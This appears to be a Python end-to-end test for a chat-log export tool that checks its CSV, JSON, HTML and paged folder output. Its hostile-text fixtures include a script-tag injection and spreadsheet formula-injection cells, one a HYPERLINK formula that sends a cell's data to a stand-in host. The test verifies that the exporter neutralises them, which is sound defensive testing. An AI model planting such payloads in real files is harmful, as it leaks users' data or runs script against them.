#!/usr/bin/env python3
"""chatlog-export end to end: the damaged sample account exported to CSV and
JSON, read back with Python's csv and json, gives exactly the messages in the
chat log files (read here by a walk of our own), in order, with order, filter,
dates, --grep and --friend applied; plus hostile and non-GBK texts, exit
codes, folder output, the local-time offset, and folder output split into
pages (by month, local or UTC, and by count) read back page after page. The
CSV is read as a spreadsheet on a Chinese Windows reads it (UTF-8 only by its
byte-order mark; a cell that begins with = + - @ tab or CR is a formula
there), and an export refused for its inputs leaves the user's files as they
were.

Every file goes under --work, a folder that belongs to this test alone."""
import argparse
import csv
import io
import json
import os
import shutil
import struct
import subprocess
import sys
from datetime import datetime, timezone
from html.parser import HTMLParser

REPLACEMENT = "\ufffd"


def parse_args(argv):
    """Options, then optionally `--` and the command that runs a Windows
    program (the emulator and its own arguments, which may begin with a dash,
    such as `wine-run.sh --win32`): everything after `--` is the runner's."""
    runner = []
    if "--" in argv:
        cut = argv.index("--")
        argv, runner = argv[:cut], argv[cut + 1:]
    p = argparse.ArgumentParser()
    p.add_argument("--exporter", required=True)
    p.add_argument("--writer", required=True)
    p.add_argument("--work", required=True)
    p.add_argument("--show-runner", action="store_true",
                   help="print the runner as parsed and stop (the test of this parsing)")
    args = p.parse_args(argv)
    args.runner = runner
    if args.show_runner:
        print(json.dumps(runner))
        sys.exit(0)
    return args


ARGS = parse_args(sys.argv[1:])
FAILURES = []


def check(condition, what):
    if not condition:
        FAILURES.append(what)
        print("FAIL:", what, file=sys.stderr)


def run(args, env=None):
    cmd = ARGS.runner + [ARGS.exporter] + args
    full_env = dict(os.environ)
    full_env.update(env or {})
    done = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=full_env,
                          timeout=120)
    return done.returncode, done.stdout, done.stderr.decode("utf-8", "replace")


# ---- the oracle: chat log files read by a walk written for this test ----

def is_log_name(name):
    dot = name.find(".")
    return dot >= 0 and name[dot:].lower() == ".dat" and all(c in "0123456789" for c in name[:dot])


def field(raw):
    nul = raw.find(b"\0")
    return (raw if nul < 0 else raw[:nul]).decode("gbk", "replace")


def read_log(path):
    data = open(path, "rb").read()
    if len(data) < 80:
        return None
    log = {"key": field(data[22:38]), "owner": field(data[38:59]), "name": field(data[59:80]),
           "messages": []}
    pos = 80
    while len(data) - pos >= 13:
        length = struct.unpack_from("<H", data, pos)[0]
        if length < 13 or length > len(data) - pos:
            break
        t, direction = struct.unpack_from("<iI", data, pos + 4)
        log["messages"].append({"time": t, "sent": direction == 0,
                                "text": field(data[pos + 12:pos + length])})
        pos += length
    log["damaged"] = pos != len(data)
    return log


def read_folder(folder):
    logs = []
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        if os.path.isdir(path) or not is_log_name(name):
            continue
        log = read_log(path)
        if log is not None:
            logs.append(log)
    return logs


def expected(logs, order="asc", filt="all", date_from=None, date_to=None, grep=None,
             friends=None):
    """Per friend key: the rows (sender, direction, date, time, text) in output order."""
    out = {}
    for log in logs:
        if friends and log["key"] not in friends:
            continue
        rows = []
        for m in log["messages"]:
            if filt == "sent" and not m["sent"] or filt == "received" and m["sent"]:
                continue
            when = datetime.fromtimestamp(m["time"], timezone.utc)
            date = when.strftime("%Y-%m-%d")
            if date_from and date < date_from or date_to and date > date_to:
                continue
            if grep and grep.lower() not in m["text"].lower():
                continue
            rows.append((log["owner"] if m["sent"] else log["name"],
                         "sent" if m["sent"] else "received", date, when.strftime("%H:%M:%S"),
                         m["text"]))
        if order == "desc":
            rows.reverse()
        if rows or not grep:
            out[log["key"]] = rows
    return out


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_rows(data, raw=False):
    """The cells as a spreadsheet opens the file: without the byte-order mark
    it would read code page 936; a cell that begins like a formula would run.
    The apostrophe that keeps such a text a text is the export's mark, not
    the friend's text, and is taken off (not with --csv-raw, which has none)."""
    check(data.startswith(b"\xef\xbb\xbf"), "CSV begins with the UTF-8 byte-order mark")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    if raw:
        return rows
    for row in rows:
        for cell in row:
            check(not cell.startswith(FORMULA_STARTS), "a CSV cell a spreadsheet runs: %r" % cell)
    return [[c[1:] if c[:1] == "'" and c[1:2] and c[1:2] in FORMULA_STARTS else c for c in row]
            for row in rows]


def from_csv(data, raw=False):
    rows = spreadsheet_rows(data, raw)
    check(rows and rows[0] == ["friend key", "friend", "sender", "direction", "date", "time",
                               "text"], "CSV header row")
    out = {}
    for r in rows[1:]:
        out.setdefault(r[0], []).append(tuple(r[2:]))
    return out


def from_json(data, logs):
    doc = json.loads(data.decode("utf-8"))
    docs = doc if isinstance(doc, list) else [doc]
    out = {}
    names = {log["key"]: log for log in logs}
    for d in docs:
        log = names.get(d["friendKey"])
        check(log is not None and d["friend"] == log["name"] and d["ownerName"] == log["owner"],
              "JSON names of " + d["friendKey"])
        rows = []
        for m in d["messages"]:
            when = datetime.fromisoformat(m["time"])
            rows.append((m["sender"], m["direction"], when.strftime("%Y-%m-%d"),
                         when.strftime("%H:%M:%S"), m["text"]))
            check(when.utcoffset().total_seconds() == 0, "JSON time offset with --utc")
        out[d["friendKey"]] = rows
    return out, doc


def write_log(path, key, texts_and_times):
    header = (b"DRCC" + struct.pack("<H", 1) + b"\0" * 16 + key.encode().ljust(16, b"\0") +
              b"me".ljust(21, b"\0") + b"you".ljust(21, b"\0"))
    body = b"".join(struct.pack("<HHiI", 13 + len(t), 0, when, i % 3 == 0) + t + b"\0"
                    for i, (t, when) in enumerate(texts_and_times))
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(header + body)


class CLinks(HTMLParser):
    """The links of a page and the texts of its messages, in page order."""

    def __init__(self):
        super().__init__()
        self.links, self.texts, self._in_text = [], [], 0

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "a":
            self.links.append(attrs.get("href"))
        if self._in_text:
            self._in_text += 1
        elif attrs.get("class") == "text":
            self._in_text = 1
            self.texts.append("")

    def handle_endtag(self, tag):
        if self._in_text:
            self._in_text -= 1

    def handle_data(self, data):
        if self._in_text:
            self.texts[-1] += data


def month_of(when, tz):
    return datetime.fromtimestamp(when, tz).strftime("%Y-%m")


def read_pages(folder, fmt):
    """The account index, each friend's index and its pages, in the indexes'
    order: {friend key: [(page file, index entry, page bytes)]}."""
    out = {}
    if fmt == "csv":
        def table(path):  # a spreadsheet's reading, the mark checked
            rows = spreadsheet_rows(open(path, "rb").read())
            return [dict(zip(rows[0], r)) for r in rows[1:]]
        accounts = table(os.path.join(folder, "index.csv"))
        for a in accounts:
            friend_index = os.path.join(folder, a["file"])
            pages = table(friend_index)
            out[a["friend key"]] = [
                (os.path.join(os.path.dirname(friend_index), p["file"]), p,
                 open(os.path.join(os.path.dirname(friend_index), p["file"]), "rb").read())
                for p in pages]
    else:
        accounts = json.load(open(os.path.join(folder, "index.json"), encoding="utf-8"))
        for a in accounts:
            friend_index = os.path.join(folder, a["file"])
            doc = json.load(open(friend_index, encoding="utf-8"))
            check(doc["friendKey"] == a["friendKey"], "friend index of " + a["file"])
            out[a["friendKey"]] = [
                (os.path.join(os.path.dirname(friend_index), p["file"]), p,
                 open(os.path.join(os.path.dirname(friend_index), p["file"]), "rb").read())
                for p in doc["pages"]]
    return out


def check_split():
    """Pages across a friend's history: every message once and in order over
    the page boundaries, months as the dates shown, names in reading order,
    the indexes' counts and dates, links that lead to files."""
    logs_dir = os.path.join(ARGS.work, "months")
    # Nine hours apart across four months, plus the last second of January
    # and the first of February both in UTC and in China's local time.
    boundary = [1769903999, 1769904000, 1769875199, 1769875200]
    times = sorted([1767225600 + i * 9 * 3600 for i in range(330)] + boundary)
    write_log(os.path.join(logs_dir, "5.dat"), "5",
              [(b"m%d" % i, t) for i, t in enumerate(times)])
    # Not in time order (a clock put back): January's page comes back.
    write_log(os.path.join(logs_dir, "6.dat"), "6",
              [(b"n%d" % i, t) for i, t in enumerate([1769904000, 1767225600, 1769904001])])
    logs = read_folder(logs_dir)
    zones = [("--utc", timezone.utc, {})]
    if not ARGS.runner:  # Wine maps time zones its own way
        from zoneinfo import ZoneInfo
        zones.append((None, ZoneInfo("Asia/Shanghai"), {"TZ": "Asia/Shanghai"}))
    cases = [(fmt, split, order, zone) for zone in zones
             for fmt, split, order in [("csv", "month", "asc"), ("json", "month", "desc"),
                                       ("csv", "7", "desc"), ("json", "100", "asc")]]
    for n, (fmt, split, order, (flag, tz, env)) in enumerate(cases):
        what = "%s --split %s --order %s %s" % (fmt, split, order, flag or "local")
        folder = os.path.join(ARGS.work, "split%d" % n) + os.sep
        rc, out, err = run([logs_dir, "--format", fmt, "--split", split, "--order", order, "-o",
                            folder] + ([flag] if flag else []), env=env)
        check(rc == 0 and out == b"", "split export exits 0 (%s): %d %s" % (what, rc, err))
        pages = read_pages(folder, fmt)
        for log in logs:
            messages = log["messages"][::-1] if order == "desc" else log["messages"]
            want = [m["text"] for m in messages]
            got, names = [], []
            for path, entry, data in pages.get(log["key"], []):
                texts = ([r[4] for r in from_csv(data).get(log["key"], [])] if fmt == "csv" else
                         [m["text"] for m in json.loads(data.decode("utf-8"))["messages"]])
                page_msgs = messages[len(got):len(got) + len(texts)]
                got += texts
                names.append(os.path.basename(path))
                check(int(entry["messages"]) == len(texts), "count of %s (%s)" % (path, what))
                if not page_msgs:
                    continue
                first = datetime.fromtimestamp(page_msgs[0]["time"], tz).strftime("%Y-%m-%d")
                last = datetime.fromtimestamp(page_msgs[-1]["time"], tz).strftime("%Y-%m-%d")
                check((entry.get("first date", entry.get("firstDate")),
                       entry.get("last date", entry.get("lastDate"))) == (first, last),
                      "first and last date of %s (%s)" % (path, what))
                if split == "month":
                    months = {month_of(m["time"], tz) for m in page_msgs}
                    check(months == {entry.get("part")} and names[-1].endswith(
                        entry["part"] + "." + fmt), "one month on %s (%s)" % (path, what))
                else:
                    check(len(texts) == int(split) or len(got) == len(want),
                          "%s messages on %s (%s)" % (split, path, what))
            check(got == want, "every message once and in order across the pages of %s (%s)"
                  % (log["key"], what))
            check(names == sorted(names), "page names sort in reading order (%s): %s"
                  % (what, names))
            if split == "month":
                runs = [month_of(m["time"], tz) for m in messages]
                runs = [r for i, r in enumerate(runs) if i == 0 or runs[i - 1] != r]
                check(len(names) == len(runs), "a page per month run (%s): %s" % (what, names))

    # Web pages: every link leads to a file, and the pages hold every message once.
    folder = os.path.join(ARGS.work, "split-html") + os.sep
    rc, out, err = run([logs_dir, "--format", "html", "--utc", "-o", folder])
    check(rc == 0, "HTML folder export exits 0 (%d %s)" % (rc, err))
    seen = []
    for base, _, names in os.walk(folder):
        for name in sorted(names):
            path = os.path.join(base, name)
            check(name.endswith(".html"), "only pages in the folder: " + path)
            page = CLinks()
            page.feed(open(path, encoding="utf-8").read())
            for href in page.links:
                check(os.path.isfile(os.path.join(base, href)), "link %s of %s" % (href, path))
            seen += page.texts
    check(sorted(seen) == sorted(m["text"] for log in logs for m in log["messages"]),
          "the web pages hold every message once")

    # Bad splits: usage and exit 64, nothing written.
    single = os.path.join(ARGS.work, "single.html")
    for options in [["--split", "0", "-o", folder], ["--split", "weekly", "-o", folder],
                    ["--split", "month"], ["--split", "10", "-o", single],
                    ["--format", "csv", "--split", "month", "-o", single]]:
        rc, out, err = run([logs_dir] + options)
        check(rc == 64 and "usage:" in err and "--split" in err,
              "exit 64 for %s (got %d: %s)" % (options, rc, err))
    check(not os.path.exists(single), "nothing written for a bad split")

    # One page is never split; a big one suggests the folder.
    big = os.path.join(ARGS.work, "big")
    for count, hint in [(50000, False), (50001, True)]:
        write_log(os.path.join(big, "7.dat"), "7", [(b"x", 1767225600 + i) for i in range(count)])
        rc, out, err = run([big, "--format", "html", "-o", single])
        check(rc == 0 and ("--split" in err) == hint and err.count("\n") == int(hint),
              "hint for %d messages on one page: %r" % (count, err))
        check(open(single, encoding="utf-8").read().count('class="msg ') == count,
              "one page holds all %d messages" % count)


def check_stopped():
    """Interrupted or told to end half-way through a folder export over an
    earlier one: the earlier files stay as they were, no temporary is left,
    and the run ends by the signal."""
    import signal
    import time
    base = os.path.join(ARGS.work, "stopped")
    subprocess.run([ARGS.writer, "--dir", base, "--friends", "2", "--big-friend", "400000",
                    "--quiet"], check=True, stdout=subprocess.DEVNULL, timeout=120)
    account = os.path.join(base, "123456789")
    out = os.path.join(ARGS.work, "stopped-out")
    rc, _, err = run([account, "--format", "csv", "--to", "2026-01-01", "-o", out + "/"])
    check(rc == 0, "the export before the stopped one: " + err)

    def snapshot():
        files = {}
        for folder, _, names in os.walk(out):
            for name in names:
                with open(os.path.join(folder, name), "rb") as f:
                    files[os.path.relpath(os.path.join(folder, name), out)] = f.read()
        return files
    before = snapshot()
    for sig in (signal.SIGINT, signal.SIGTERM):
        proc = subprocess.Popen([ARGS.exporter, account, "--format", "csv", "-o", out + "/"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        # Stopped once it writes: its first temporary is there.
        deadline = time.time() + 60
        while time.time() < deadline and proc.poll() is None and not any(
                ".tmp-" in name for name in os.listdir(out)):
            time.sleep(0.01)
        proc.send_signal(sig)
        proc.wait(timeout=60)
        check(proc.returncode == -sig, "ended by signal %d, not %s" % (sig, proc.returncode))
        check(snapshot() == before, "signal %d: the earlier export as it was, nothing left" % sig)


def main():
    shutil.rmtree(ARGS.work, ignore_errors=True)
    os.makedirs(ARGS.work)
    base = os.path.join(ARGS.work, "client")
    subprocess.run(ARGS.runner + [ARGS.writer, "--dir", base, "--friends", "4", "--messages",
                                  "400", "--damaged", "--quiet"], check=True,
                   stdout=subprocess.DEVNULL, timeout=120)
    account = os.path.join(base, "123456789")
    logs = read_folder(os.path.join(account, "ChatLog"))
    check(len(logs) >= 12, "the sample account holds its logs")

    # Order, filter, dates, grep and friend selection, through both parsers.
    biggest = max(logs, key=lambda log: len(log["messages"]))
    first_day = datetime.fromtimestamp(biggest["messages"][0]["time"], timezone.utc)
    day = first_day.strftime("%Y-%m-%d")
    cases = [
        ([], {}),
        (["--order", "desc"], {"order": "desc"}),
        (["--filter", "sent"], {"filt": "sent"}),
        (["--filter", "received", "--order", "desc"], {"filt": "received", "order": "desc"}),
        (["--from", day, "--to", day], {"date_from": day, "date_to": day}),
        (["--from", "2026-01-02"], {"date_from": "2026-01-02"}),
        (["--grep", "ok, SEE"], {"grep": "ok, SEE"}),
        (["--grep", "\u665a\u4e0a"], {"grep": "\u665a\u4e0a"}),  # 晚上
        (["--friend", "180000000", "--friend", "9000003"],
         {"friends": ["180000000", "9000003"]}),
    ]
    for options, oracle in cases:
        want = expected(logs, **oracle)
        rc, out, err = run([account, "--utc", "--format", "csv"] + options)
        check(rc == 2, "exit code 2 for the damaged account with %s (got %d)" % (options, rc))
        got = from_csv(out)
        want_rows = {k: v for k, v in want.items() if v}
        check(got == want_rows, "CSV round trip with %s" % options)
        rc, out, err = run([account, "--utc", "--format", "json"] + options)
        got, doc = from_json(out, logs)
        check(got == want, "JSON round trip with %s" % options)
        selected = expected(logs, friends=oracle.get("friends"))
        check(isinstance(doc, list) == (len(selected) != 1), "JSON array only for several logs")

    # Warnings name each damaged file; files that are fine are not named.
    rc, out, err = run([account, "--format", "csv"])
    for name in ["9000001.dat", "9000003.dat", "9000004.dat", "9000005.dat", "9000006.dat",
                 "9000007.dat"]:
        check(name in err, "a warning names " + name)
    for name in ["180000000.dat", "9000008.dat", "9000002.dat"]:
        check(name not in err, "no warning for " + name)

    # Hostile and non-GBK texts come out as text, exactly.
    hostile = os.path.join(ARGS.work, "hostile")
    os.makedirs(hostile)
    texts = [b"</div><script>alert(1)</script>", b'","', b'a "quoted", text\r\nline 2',
             b"bad \xff byte \xc4", b"\xc4\xe3\xba\xc3\\n", b"",
             b'=HYPERLINK("http://x.example/?d="&G3,"open")', b"-1+2", b"@SUM(A1)",
             b"+86 10", b"\tcmd"]
    header = (b"DRCC" + struct.pack("<H", 1) + b"\0" * 16 + b"42".ljust(16, b"\0") +
              b"<b>me</b>".ljust(21, b"\0") + b'x","y'.ljust(21, b"\0"))
    body = b"".join(struct.pack("<HHiI", 13 + len(t), 0, 1767225600 + i, i % 2) + t + b"\0"
                    for i, t in enumerate(texts))
    open(os.path.join(hostile, "42.dat"), "wb").write(header + body)
    want_texts = ["</div><script>alert(1)</script>", '","', 'a "quoted", text\r\nline 2',
                  "bad " + REPLACEMENT + " byte " + REPLACEMENT, "\u4f60\u597d\\n", "",
                  '=HYPERLINK("http://x.example/?d="&G3,"open")', "-1+2", "@SUM(A1)", "+86 10",
                  "\tcmd"]
    rc, out, err = run([hostile, "--format", "csv", "--utc"])
    check(rc == 0, "clean log exits 0 (got %d: %s)" % (rc, err))
    got = from_csv(out)
    check([r[4] for r in got.get("42", [])] == want_texts, "hostile texts through CSV")
    check(got.get("42", [("",)])[0][0] == "<b>me</b>", "owner name through CSV")
    check(b"\"'=HYPERLINK(" in out and b",'-1+2\r\n" in out, "formula starts kept as text")
    rc, out, err = run([hostile, "--format", "csv", "--utc", "--csv-raw"])
    got = from_csv(out, raw=True)
    check([r[4] for r in got.get("42", [])] == want_texts and b"'" not in out,
          "--csv-raw writes the exact texts")
    # Names a friend chooses are guarded the same way.
    named = os.path.join(ARGS.work, "named")
    os.makedirs(named)
    open(os.path.join(named, "43.dat"), "wb").write(
        header[:22] + b"43".ljust(16, b"\0") + b"-me".ljust(21, b"\0") +
        b"=1+1".ljust(21, b"\0") + struct.pack("<HHiI", 15, 0, 1767225600, 1) + b"hi\0")
    rc, out, err = run([named, "--format", "csv"])
    check(from_csv(out).get("43", [("",)])[0][0] == "=1+1" and b",'=1+1," in out,
          "a friend's name that starts a formula")
    rc, out, err = run([hostile, "--format", "json", "--utc"])
    doc = json.loads(out.decode("utf-8"))
    check([m["text"] for m in doc["messages"]] == want_texts, "hostile texts through JSON")
    check(doc["friend"] == 'x","y' and doc["ownerKey"] is None, "names through JSON")

    # Exit codes.
    for options, code in [([hostile, "--grep", "QUOTED"], 0), ([hostile, "--grep", "nowhere"], 1),
                          ([account, "--grep", "nowhere"], 2), ([hostile, "--format", "pdf"], 64),
                          ([], 64), ([hostile, "--friend", "43"], 64),
                          ([os.path.join(ARGS.work, "none")], 2)]:
        rc, out, err = run(options)
        check(rc == code, "exit code %d for %s (got %d)" % (code, options, rc))
        if code == 64:
            check("usage:" in err and out == b"", "usage on standard error for " + str(options))
    # Nothing found still gives a valid document: an empty array for several
    # logs, the friend with no messages for one.
    rc, out, err = run([account, "--format", "json", "--grep", "nowhere"])
    check(json.loads(out.decode("utf-8")) == [], "empty JSON array when nothing matched")
    rc, out, err = run([hostile, "--format", "json", "--grep", "nowhere"])
    check(json.loads(out.decode("utf-8"))["messages"] == [], "one log, nothing matched")
    rc, out, err = run([hostile, "--grep", "quoted"])
    check(b"(42)" in out and b'a "quoted", text' in out and b"line 2" not in out,
          "search list shows the matching line only")

    # Folder output: one file per friend and an index, nothing else left.
    folder = os.path.join(ARGS.work, "folder") + os.sep
    rc, out, err = run([account, "--format", "csv", "--utc", "-o", folder])
    check(rc == 2 and out == b"", "folder output exits 2 and writes nothing to stdout")
    index_bytes = open(os.path.join(folder, "index.csv"), "rb").read()
    index = list(csv.DictReader(io.StringIO(index_bytes.decode("utf-8-sig"), newline="")))
    check(index_bytes.startswith(b"\xef\xbb\xbf"), "the CSV index has the byte-order mark")
    want = expected(logs)
    check(sorted(e["friend key"] for e in index) == sorted(want), "index lists every friend")
    for e in index:
        rows = from_csv(open(os.path.join(folder, e["file"]), "rb").read())
        check(rows.get(e["friend key"], []) == want[e["friend key"]], "file of " + e["file"])
        check(int(e["messages"]) == len(want[e["friend key"]]), "count of " + e["file"])
    check(sorted(os.listdir(folder)) == sorted([e["file"] for e in index] + ["index.csv"]),
          "no temporary file left in the folder")

    # Inputs that name nothing to export are refused before anything is
    # written: an existing output stays as it was, and none is created.
    users = os.path.join(ARGS.work, "users.csv")
    fresh = os.path.join(ARGS.work, "fresh.csv")
    foreign = os.path.join(ARGS.work, "notes.txt")
    open(foreign, "wb").write(b"not a chat log, long enough for a header " * 4)
    short = os.path.join(ARGS.work, "1.dat")
    open(short, "wb").write(header[:40])
    for bad, named in [(os.path.join(ARGS.work, "none"), "none"), (foreign, "notes.txt"),
                       (short, "1.dat"), (os.path.join(ARGS.work, "named") + "x", "namedx")]:
        open(users, "wb").write(b"the user's own file")
        for target in [users, fresh]:
            rc, out, err = run([hostile, bad, "--format", "csv", "-o", target])
            check(rc == 2 and named in err and "nothing written" in err,
                  "refused with a reason for %s (got %d: %s)" % (named, rc, err))
        check(open(users, "rb").read() == b"the user's own file", "output kept for " + named)
        check(not os.path.exists(fresh), "no output created for " + named)
    check(sorted(os.listdir(ARGS.work)).count("users.csv") == 1 and
          not [n for n in os.listdir(ARGS.work) if ".tmp-" in n], "no temporary left")
    # Folder mode never writes over a log it reads.
    # Folder mode never writes over a log it reads: a friend's file, the
    # index, or (split) a page in the friend's folder.
    for n, (place, options) in enumerate([("42.csv", ["--format", "csv"]),
                                          ("index.csv", ["--format", "csv"]),
                                          ("2026-01/2026-01.html", ["--format", "html"])]):
        clash = os.path.join(ARGS.work, "clash-%d" % n)
        os.makedirs(os.path.dirname(os.path.join(clash, place)))
        shutil.copy(os.path.join(hostile, "42.dat"), os.path.join(clash, place))
        rc, out, err = run([os.path.join(clash, place), "--utc", "-o", clash + os.sep] + options)
        check(rc == 2 and "overwritten" in err, "refused to overwrite " + place)
        check(open(os.path.join(clash, place), "rb").read() ==
              open(os.path.join(hostile, "42.dat"), "rb").read() and
              sorted(os.listdir(clash)) == [place.split("/")[0]], "input %s untouched" % place)

    # Local time: the offset in force, on the host (Wine maps time zones its own way).
    if not ARGS.runner:
        rc, out, err = run([hostile, "--format", "json"], env={"TZ": "Asia/Shanghai"})
        doc = json.loads(out.decode("utf-8"))
        check(doc["messages"][0]["time"] == "2026-01-01T08:00:00+08:00", "local ISO time")
        rc, out, err = run([hostile, "--format", "csv", "--from", "2026-01-01", "--to",
                            "2026-01-01"], env={"TZ": "America/New_York"})
        check(len(from_csv(out).get("42", [])) == 0, "dates are local dates")

    check_split()
    if not ARGS.runner:
        check_stopped()

    if FAILURES:
        print("%d check(s) failed" % len(FAILURES), file=sys.stderr)
        return 1
    print("all checks passed")
    return 0


sys.exit(main())
